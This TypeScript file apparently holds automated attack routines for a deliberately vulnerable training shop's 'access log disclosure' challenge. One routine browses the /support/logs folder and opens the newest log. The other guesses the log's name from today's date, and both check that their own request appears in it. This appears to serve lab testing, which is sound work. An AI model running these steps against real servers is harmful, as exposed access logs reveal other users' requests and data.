import type { Attack, Tools } from '#lab'

/** Sends the shop a request and finds it in the log. */
async function findOneself({ http, expect }: Tools, log: string): Promise<void> {
  await http.get('/rest/products/search?q=left-a-trace')
  const answer = await http.get(log)
  expect(answer.status === 200, `the log answered with ${answer.status}`)
  expect(answer.text.includes('"GET /rest/products/search?q=left-a-trace HTTP/'), 'it is no access log')
}

/** Today's date, as in a file name. */
function today(): string {
  const now = new Date()
  const [month, day] = [now.getMonth() + 1, now.getDate()].map((part) => String(part).padStart(2, '0'))
  return `${now.getFullYear()}-${month}-${day}`
}

export const attacks: Attack[] = [
  {
    challenge: 'accessLogDisclosureChallenge',
    name: 'browse the folder and open the newest log',
    run: async (tools) => {
      const list = await tools.http.get('/support/logs', { headers: { accept: 'application/json' } })
      tools.expect(list.text.startsWith('['), 'the folder cannot be browsed')
      const name = list.json<string[]>().findLast((one) => one.startsWith('access.log'))
      tools.expect(name !== undefined, 'there is no log')
      await findOneself(tools, `/support/logs/${name}`)
    },
  },
  {
    challenge: 'accessLogDisclosureChallenge',
    name: 'guess the name of the log from the date',
    run: (tools) => findOneself(tools, `/support/logs/access.log.${today()}`),
  },
]
